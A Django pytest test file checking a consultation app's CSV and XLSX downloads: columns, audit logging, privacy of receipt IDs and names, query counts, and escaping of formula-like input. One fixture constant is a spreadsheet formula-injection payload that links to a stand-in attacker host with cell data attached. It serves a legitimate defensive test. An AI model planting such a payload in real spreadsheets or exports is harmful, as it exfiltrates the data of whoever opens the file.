"""The downloads: the page states the totals; each table's columns; streamed, audited and
formula-safe; the receipt id (and people's names and addresses) never in a file; the query
count per chunk does not grow with the data."""

import csv
import io

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from consultations import campaigns, exports
from consultations.models import Tag, Theme
from workspaces.models import AuditEntry

from .builders import make_consultation, make_response, section
from .campaigns_helpers import TEXT, answer, respond

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def consultation(workspace, manager):
    return make_consultation(workspace, manager, stage="closed")


def url(name, consultation, **kwargs):
    return reverse(f"consultations:{name}",
                   kwargs={"workspace": consultation.workspace.slug, "pk": consultation.pk, **kwargs})


def download(response):
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


def table(consultation, client, what):
    response = client.get(url("export", consultation, what=what, fmt="csv"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    header, *rows = list(csv.reader(io.StringIO(download(response).decode("utf-8-sig"))))
    return header, [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture
def filled(consultation, manager, reader):
    """A named response with a comment, a hostile suggestion and a tag; an offline campaign of two."""
    named = make_response(consultation, reader, consent="named", comments=[("2", 4, "Weekly is too rare.")],
                          suggestions=[("2", 5, HOSTILE)], respondent_type="organisation",
                          organisation_name="-Friends of the river", organisation_type="charity")
    answer(named, "Q1", "@SUM(1+1) is my answer")
    parent = Theme.objects.create(consultation=consultation, name="Concerns", definition="Worries")
    theme = Theme.objects.create(consultation=consultation, name="Testing", parent=parent, position=1,
                                 definition="How often sites are tested")
    comment = named.comments.get(kind="comment")
    Tag.objects.create(consultation=consultation, theme=theme, response=named, comment=comment,
                       section=section(consultation, "2"))
    respond(consultation, TEXT, staff=manager)
    respond(consultation, TEXT, staff=manager)
    campaigns.group(consultation)
    return named


def test_the_page_offers_every_table_in_both_formats_and_states_the_totals(as_user, manager, consultation, filled):
    body = as_user(manager).get(url("exports", consultation)).content.decode()
    assert "3 responses, including 2 in 1 campaign" in body
    for what in ("responses", "comments", "answers", "codebook"):
        for fmt in ("csv", "xlsx"):
            assert url("export", consultation, what=what, fmt=fmt) in body
    assert not AuditEntry.objects.filter(action="consultation.exported").exists()


def test_responses_one_row_each_with_campaign_and_themes_never_the_receipt(as_user, manager, consultation, filled):
    header, rows = table(consultation, as_user(manager), "responses")
    assert header == list(exports.RESPONSE_HEADER)
    assert len(rows) == 3
    named = next(row for row in rows if row["response"] == filled.public_id)
    assert named["type"] == "On behalf of an organisation" and named["organisation"] == "'-Friends of the river"
    assert named["organisation type"] == "Charity or voluntary group" and named["consent"].startswith("Publish my")
    assert named["themes"] == "Testing" and named["campaign"] == "" and named["signatures"] == "1"
    campaign_rows = [row for row in rows if row["campaign"]]
    assert len(campaign_rows) == 2 and campaign_rows[0]["channel"] == "By letter (entered by staff)"
    entry = AuditEntry.objects.get(action="consultation.exported")
    assert entry.actor == manager and entry.after == {"table": "responses", "format": "csv"}


def test_comments_one_row_each_formula_safe(as_user, manager, consultation, filled):
    header, rows = table(consultation, as_user(manager), "comments")
    assert header == list(exports.COMMENT_HEADER)
    assert len(rows) == 4
    comment = next(row for row in rows if row["kind"] == "Comment" and row["response"] == filled.public_id)
    assert comment["section"] == "2 The proposals" and comment["paragraph"] == "4"
    assert comment["text"] == "Weekly is too rare." and comment["themes"] == "Testing"
    assert comment["confidential"] == "no" and comment["moderation"] == "Published"
    assert comment["publish state"] == "Not reviewed"
    suggestion = next(row for row in rows if row["kind"] != "Comment")
    assert suggestion["suggested text"] == "'" + HOSTILE and suggestion["paragraph"] == "5"


def test_answers_and_the_codebook(as_user, manager, consultation, filled):
    header, rows = table(consultation, as_user(manager), "answers")
    assert header == list(exports.ANSWER_HEADER)
    assert rows == [{"response": filled.public_id, "question": "Q1", "question text": "Question Q1", "row": "",
                     "choice": "", "text": "'@SUM(1+1) is my answer", "number": "", "date": "",
                     "publish state": "Not reviewed"}]
    header, rows = table(consultation, as_user(manager), "codebook")
    assert header == list(exports.CODEBOOK_HEADER)
    assert rows == [
        {"theme": "Concerns", "definition": "Worries", "parent": "", "responses": "0", "comments": "0"},
        {"theme": "Testing", "definition": "How often sites are tested", "parent": "Concerns", "responses": "1",
         "comments": "1"},
    ]


def test_no_file_holds_a_receipt_id_a_name_or_an_email(as_user, manager, reader, consultation, filled):
    client = as_user(manager)
    receipts = [r.receipt_id for r in consultation.responses.all()]
    for what in exports.TABLES:
        for fmt in exports.FORMATS:
            data = download(client.get(url("export", consultation, what=what, fmt=fmt)))
            if fmt == "xlsx":
                book = load_workbook(io.BytesIO(data), read_only=True)
                data = "\n".join(str(cell) for row in book.active.iter_rows(values_only=True) for cell in row)
            else:
                data = data.decode("utf-8-sig")
            for receipt in receipts:
                assert receipt not in data, f"{what}.{fmt}"
            assert reader.email not in data and reader.display_name not in data


def test_xlsx_keeps_hostile_text_as_text(as_user, manager, consultation, filled):
    response = as_user(manager).get(url("export", consultation, what="comments", fmt="xlsx"))
    book = load_workbook(io.BytesIO(download(response)))
    sheet = book.active
    assert sheet.title == "Comments"
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE]
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_an_unknown_table_or_format_is_not_found(as_user, manager, consultation):
    client = as_user(manager)
    assert client.get(url("export", consultation, what="receipts", fmt="csv")).status_code == 404
    assert client.get(url("export", consultation, what="comments", fmt="pdf")).status_code == 404


def test_an_archived_workspace_still_downloads(as_user, manager, workspace, consultation, filled):
    workspace.is_archived = True
    workspace.save(update_fields=["is_archived"])
    header, rows = table(consultation, as_user(manager), "responses")
    assert len(rows) == 3


def test_each_chunk_costs_the_same_queries_whatever_the_size(consultation, manager, filled):
    def count(n):
        for _ in range(n):
            respond(consultation, f"Another view {_}", staff=manager)
        results = []
        for make in exports.TABLES.values():
            with CaptureQueriesContext(connection) as captured:
                list(make(consultation)) if make is exports.codebook_rows else list(make(consultation, chunk=10_000))
            results.append(len(captured))
        return results

    assert count(1) == count(20)
